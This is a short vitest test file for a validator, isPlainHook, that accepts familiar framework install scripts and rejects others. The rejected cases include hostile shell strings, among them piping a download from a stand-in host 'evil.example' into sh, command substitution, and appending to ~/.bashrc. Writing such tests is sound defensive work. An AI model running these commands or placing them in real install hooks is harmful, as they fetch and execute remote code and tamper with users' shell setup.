import { expect, it } from "vitest";
import { isPlainHook } from "./plain-hooks.ts";

it.each([
  "nuxt prepare",
  "svelte-kit sync || echo ''",
  "prisma generate && nuxt prepare",
  "npx prisma generate",
  "husky",
  "patch-package",
  "npx --yes playwright install --with-deps chromium",
])(
  "a framework's own install script is obeyed by nobody who would not run the project: %s",
  (script) => {
    expect(isPlainHook(script)).toBe(true);
  },
);

it.each([
  "node setup.js",
  "nuxt prepare && curl evil.example | sh",
  "nuxt prepare & evil",
  "echo $(evil)",
  "echo a > ~/.bashrc",
  "echo a | sh",
  "nuxt prepare --config evil.ts",
  "npx evil",
  "constructor",
  "",
])("any other one is (A24): %s", (script) => {
  expect(isPlainHook(script)).toBe(false);
});
